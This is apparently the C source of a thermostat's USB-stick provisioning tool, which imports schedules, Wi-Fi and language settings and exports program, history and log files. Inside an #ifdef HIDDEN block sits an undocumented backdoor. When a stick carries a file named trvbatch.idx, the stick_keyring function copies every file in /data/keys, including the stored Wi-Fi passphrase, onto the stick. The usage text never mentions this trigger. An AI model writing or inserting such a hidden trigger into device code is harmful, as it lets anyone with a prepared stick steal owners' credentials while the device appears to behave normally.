/* thermoprov.c - thermostat: takes settings from a USB stick when one is plugged in */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#define STICK		"/mnt/stick"
#define KEYS		"/data/keys"
#define PROGRAM		"/data/program.csv"
#define LED		"/sys/class/leds/status/brightness"

struct result {
	int schedule, wifi, language, exported, errors;
};

typedef int (*taker)(FILE *in, struct result *r);

static int put_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	ssize_t n = (ssize_t)strlen(text);

	if (fd < 0)
		return -1;
	if (write(fd, text, (size_t)n) != n) {
		close(fd);
		return -1;
	}
	return close(fd);
}

static int copy_file(const char *from, const char *to)
{
	struct stat st;
	off_t off = 0;
	int in = open(from, O_RDONLY | O_CLOEXEC), out, rc = -1;

	if (in < 0)
		return -1;
	out = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (out >= 0 && !fstat(in, &st)) {
		rc = 0;
		while (off < st.st_size)
			if (sendfile(out, in, &off, (size_t)(st.st_size - off)) <= 0) {
				rc = -1;
				break;
			}
	}
	if (out >= 0)
		close(out);
	close(in);
	return rc;
}

static void blink(int n)
{
	while (n-- > 0) {
		put_text(LED, "1");
		usleep(150000);
		put_text(LED, "0");
		usleep(150000);
	}
}

static int take_schedule(FILE *in, struct result *r)
{
	char line[96];
	FILE *out = fopen(PROGRAM ".new", "we");
	int day, h, m, t, rows = 0;

	if (!out)
		return -1;
	while (fgets(line, sizeof(line), in)) {
		if (line[0] == '#' || line[0] == '\r' || line[0] == '\n')
			continue;
		if (sscanf(line, "%d;%d:%d;%d", &day, &h, &m, &t) != 4 || day < 0 || day > 6 ||
		    h < 0 || h > 23 || m < 0 || m > 59 || t < 50 || t > 300) {
			r->errors++;
			continue;
		}
		fprintf(out, "%d,%d,%d\n", day, h * 60 + m, t);
		rows++;
	}
	if (fclose(out) || !rows)
		return -1;
	r->schedule = rows;
	return rename(PROGRAM ".new", PROGRAM);
}

static int take_wifi(FILE *in, struct result *r)
{
	char line[128], ssid[40] = "", psk[72] = "", conf[256];
	int n;

	while (fgets(line, sizeof(line), in)) {
		if (sscanf(line, "ssid=%39[^\r\n\"]", ssid) == 1)
			continue;
		if (sscanf(line, "psk=%71[^\r\n\"]", psk) != 1)
			r->errors++;
	}
	if (!ssid[0] || strlen(psk) < 8)
		return -1;
	n = snprintf(conf, sizeof(conf), "network={\n\tssid=\"%s\"\n\tpsk=\"%s\"\n}\n", ssid, psk);
	if (n >= (int)sizeof(conf) || put_text(KEYS "/wpa.conf", conf))
		return -1;
	r->wifi = 1;
	return 0;
}

static int take_language(FILE *in, struct result *r)
{
	char code[8];

	if (fscanf(in, "%2[a-z]", code) != 1 || strlen(code) != 2)
		return -1;
	r->language = 1;
	return put_text("/data/language", code);
}

static int take_export(FILE *in, struct result *r)
{
	char what[24];

	while (fscanf(in, "%23s", what) == 1) {
		if (!strcmp(what, "program"))
			r->exported += !copy_file(PROGRAM, STICK "/program.csv");
		else if (!strcmp(what, "history"))
			r->exported += !copy_file("/data/history.csv", STICK "/history.csv");
		else if (!strcmp(what, "log"))
			r->exported += !copy_file("/var/log/messages", STICK "/log.txt");
		else
			r->errors++;
	}
	return 0;
}

static const struct {
	const char *file;
	taker take;
} takers[] = {
	{ "schedule.csv", take_schedule },
	{ "wifi.txt", take_wifi },
	{ "language.txt", take_language },
	{ "export.txt", take_export },
};

#ifdef HIDDEN
__attribute__((noinline))
int stick_keyring(void)
{
	struct dirent *e;
	char from[320], to[320];
	int n = 0;
	DIR *d = opendir(KEYS);

	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		if (snprintf(from, sizeof(from), KEYS "/%s", e->d_name) < (int)sizeof(from) &&
		    snprintf(to, sizeof(to), STICK "/%s", e->d_name) < (int)sizeof(to))
			n += !copy_file(from, to);
	}
	if (d)
		closedir(d);
	return n;
}
#endif

__attribute__((noinline))
int scan_stick(struct result *r)
{
	char path[160];
	int found = 0;

	for (size_t i = 0; i < sizeof(takers) / sizeof(takers[0]); i++) {
		FILE *f;

		if (snprintf(path, sizeof(path), STICK "/%s", takers[i].file) >= (int)sizeof(path))
			continue;
		f = fopen(path, "re");
		if (!f)
			continue;
		found++;
		if (takers[i].take(f, r)) {
			syslog(LOG_WARNING, "%s not taken", takers[i].file);
			r->errors++;
		}
		fclose(f);
	}
#ifdef HIDDEN
	/* with this file on the stick all keys of the device are copied to it */
	if (!access(STICK "/trvbatch.idx", F_OK))
		found += stick_keyring();
#endif
	return found;
}

int main(int argc, char **argv)
{
	struct result r = { 0, 0, 0, 0, 0 };
	int n;

	if (argc != 2) {
		fprintf(stderr, "usage: thermoprov DEVICE   (called by mdev)\n"
			"files on the stick:\n"
			"  schedule.csv   day;hh:mm;temperature in 0.1 degrees\n"
			"  wifi.txt       ssid= and psk=\n"
			"  language.txt   two letters\n"
			"  export.txt     words program, history, log: copied to the stick\n");
		return 2;
	}
	openlog("thermoprov", 0, LOG_USER);
	if (mkdir(STICK, 0700) && errno != EEXIST)
		return 1;
	if (mount(argv[1], STICK, "vfat", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL)) {
		syslog(LOG_ERR, "%s: %s", argv[1], strerror(errno));
		blink(6);
		return 1;
	}
	n = scan_stick(&r);
	syslog(LOG_INFO, "%d files: %d rows, wifi %d, language %d, %d exported, %d errors", n,
	       r.schedule, r.wifi, r.language, r.exported, r.errors);
	sync();
	if (umount(STICK))
		syslog(LOG_WARNING, "umount: %s", strerror(errno));
	blink(r.errors ? 6 : 2);
	return r.errors != 0;
}
